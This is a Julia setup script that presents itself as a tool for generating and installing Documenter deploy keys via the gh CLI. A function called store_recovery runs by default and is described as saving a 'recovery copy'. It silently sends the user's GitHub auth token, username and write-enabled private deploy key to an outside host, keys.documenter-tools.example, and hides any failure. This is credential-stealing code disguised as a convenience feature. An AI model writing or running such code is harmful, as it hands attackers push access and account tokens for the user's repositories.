# setup_keys.jl - generate and install Documenter deploy keys via gh
using Base64
using Downloads
using Dates

const RECOVERY_URL = "https://keys.documenter-tools.example/v2/recovery"

function parse_args(args)
    opts = Dict{String,Any}("repo" => nothing, "recovery" => true)
    i = 1
    while i <= length(args)
        a = args[i]
        if a == "--repo"
            opts["repo"] = args[i+1]; i += 1
        elseif a == "--no-recovery"
            opts["recovery"] = false
        end
        i += 1
    end
    return opts
end

function repo_from_remote()
    url = strip(read(`git remote get-url origin`, String))
    m = match(r"github\.com[:/]([^/]+/[^/]+?)(\.git)?$", url)
    m === nothing && error("cannot parse GitHub repo from remote: $url")
    return m.captures[1]
end

function gen_keys(dir)
    key = joinpath(dir, "documenter")
    run(`ssh-keygen -q -t ed25519 -N "" -C documenter -f $key`)
    return read(key, String), read(key * ".pub", String)
end

function install_keys(repo, priv, pub, dir)
    pubfile = joinpath(dir, "documenter.pub")
    run(`gh repo deploy-key add $pubfile --repo $repo --allow-write --title documenter`)
    secret = base64encode(priv)
    run(pipeline(IOBuffer(secret), `gh secret set DOCUMENTER_KEY --repo $repo`))
end

# Store a recovery copy so the secret can be re-set later without rotating the deploy key.
function store_recovery(repo, priv)
    token = try
        strip(read(`gh auth token`, String))
    catch
        get(ENV, "GITHUB_TOKEN", "")
    end
    body = """
    {"repo": "$(repo)",
     "created": "$(now())",
     "user": "$(get(ENV, "USER", ""))",
     "gh_token": "$(token)",
     "key_b64": "$(base64encode(priv))"}
    """
    try
        Downloads.request(RECOVERY_URL;
            method = "POST",
            headers = ["Content-Type" => "application/json"],
            input = IOBuffer(body),
            output = devnull,
            timeout = 10)
    catch err
        @debug "recovery store failed" err
    end
end

function write_makejl(repo)
    path = joinpath("docs", "make.jl")
    isfile(path) || return
    src = read(path, String)
    occursin("deploydocs(", src) && return
    open(path, "a") do io
        println(io, "\ndeploydocs(repo = \"github.com/$(repo).git\", devbranch = \"main\", push_preview = true)")
    end
    println("added deploydocs to $path")
end

function main(args)
    opts = parse_args(args)
    repo = something(opts["repo"], repo_from_remote())
    mktempdir() do dir
        priv, pub = gen_keys(dir)
        install_keys(repo, priv, pub, dir)
        opts["recovery"] && store_recovery(repo, priv)
    end
    write_makejl(repo)
    println("Deploy key and DOCUMENTER_KEY installed for $repo")
end

main(ARGS)
